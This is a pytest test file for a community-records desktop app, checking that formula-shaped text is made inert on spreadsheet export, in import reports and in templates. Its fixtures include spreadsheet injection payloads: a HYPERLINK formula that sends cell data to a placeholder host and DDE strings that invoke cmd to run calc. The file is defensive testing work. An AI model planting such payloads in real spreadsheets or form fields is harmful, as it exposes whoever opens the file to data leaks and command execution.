"""Formula-shaped text (=, +, -, @, a leading tab or CR) leaves every export inert, with the usual
OWASP apostrophe, and comes back as the original text on re-import (item 20 of the hardening
issue). Phone numbers (+86 …) and numbers stay what they are."""

from __future__ import annotations

import pytest
from python_calamine import CalamineWorkbook
from sqlalchemy import text

from desktop.exchange import ImportOptions, export, read_sheet, run_import, suggest_mapping
from desktop.exchange.formulas import inert
from desktop.services.demo import generate
from desktop.services.store import Actor, Store
from tests.exchange.conftest import person_ids

NASTY = {
    "note": '=HYPERLINK("http://example.invalid/?"&A1,"点我")',
    "employer": "@SUM(1+1)*cmd|' /C calc'!A0",
    "occupation": "-2+3+cmd|' /C calc'!A0",
    "health": "\t=1+1",
    "religion": "\r=1+1",
}


def rows_of(path, index=0):
    return CalamineWorkbook.from_path(str(path)).get_sheet_by_index(index).to_python()


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("@SUM(A1)", "'@SUM(A1)"), ("+1+cmd", "'+1+cmd"), ("-1+cmd", "'-1+cmd"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("张三", "张三"), ("a=1", "a=1"), ("", ""),
    # numbers and phone numbers written as text stay readable and correct
    ("+86 138 0000 0000", "+86 138 0000 0000"), ("+86-931-1234567", "+86-931-1234567"), ("-12.5", "-12.5"),
    ("(0931) 123-4567", "(0931) 123-4567"),
])
def test_the_owasp_rule(value, expected):
    assert inert(value) == expected


def test_a_ledger_export_neutralises_formula_shaped_text(tmp_path):
    store = Store.open(tmp_path / "demo.db", create=True)
    try:
        generate(store, households=20, seed=3)
        with store.transaction() as s:  # as if it had arrived by sync from a careless form elsewhere
            pid = s.execute(text("SELECT id FROM person ORDER BY id LIMIT 1")).scalar_one()
            s.execute(text("UPDATE person SET note = :note, employer = :employer, occupation = :occupation, "
                           "health = :health, religion = :religion, phone = '+8613800000000' WHERE id = :id"),
                      {**NASTY, "id": pid})
            s.execute(text("UPDATE household_ledger SET income_total = -500"))
        out = tmp_path / "person.xlsx"
        export(store, Actor("admin", "community_admin"), "person", out, unmask=True)
        rows = rows_of(out)
        headers = rows[1]
        mine = next(r for r in rows[2:] if r[headers.index("备注")] == "'" + NASTY["note"])
        for title, key in (("工作单位", "employer"), ("职业", "occupation"), ("健康状况", "health"),
                           ("宗教信仰", "religion")):
            assert mine[headers.index(title)] == "'" + NASTY[key], title
        assert mine[headers.index("联系电话")] == "+8613800000000"
        ledger = tmp_path / "ledger.xlsx"
        assert export(store, Actor("admin", "community_admin"), "household_ledger", ledger) > 0
        data = rows_of(ledger)
        assert data[2][data[1].index("家庭总收入")] == -500  # a number cell, negative, as it was
    finally:
        store.close()


def test_the_import_report_is_inert_and_reimports_as_the_original(store, admin, community, make_xlsx, tmp_path):
    ids = person_ids(2, seed=7)
    path = make_xlsx([
        ["姓名", "身份证号", "备注", "=列"],
        ["甲", "12345", "=1+1", "@SUM(A1)"],  # a bad ID number: the row goes to the report
        ["乙", ids[1][0], "'=2+2", "'+86 1"],  # apostrophe-prefixed: the original text
    ])
    sheet = read_sheet(path, kind="person")
    assert sheet.rows[1][2:] == ["=2+2", "+86 1"]
    report = run_import(store, admin, "person", sheet, suggest_mapping("person", sheet.headers),
                        ImportOptions(default_grid_id=community.grid1["id"], valid_only=True))
    assert report.counts["rejected"] == 1
    with store.session() as s:
        assert s.execute(text("SELECT note FROM person WHERE name = '乙'")).scalar_one() == "=2+2"
    out = report.save_xlsx(tmp_path / "report.xlsx")
    fix = rows_of(out)
    assert fix[1][:4] == ["姓名", "身份证号", "备注", "'=列"]
    assert fix[2][2:4] == ["'=1+1", "'@SUM(A1)"]
    again = read_sheet(out)
    assert again.headers[3] == "=列" and again.rows[0][2:4] == ["=1+1", "@SUM(A1)"]


def test_a_template_is_inert_too(tmp_path, monkeypatch):
    from desktop.exchange import templates, write_template

    cols = [(k, h, "=1+1" if k == "note" else v) for k, h, v in templates.TEMPLATE_COLUMNS["person"]]
    monkeypatch.setitem(templates.TEMPLATE_COLUMNS, "person", cols)
    out = write_template("person", tmp_path / "模板.xlsx")
    rows = rows_of(out)
    assert rows[2][rows[1].index("备注")] == "'=1+1"
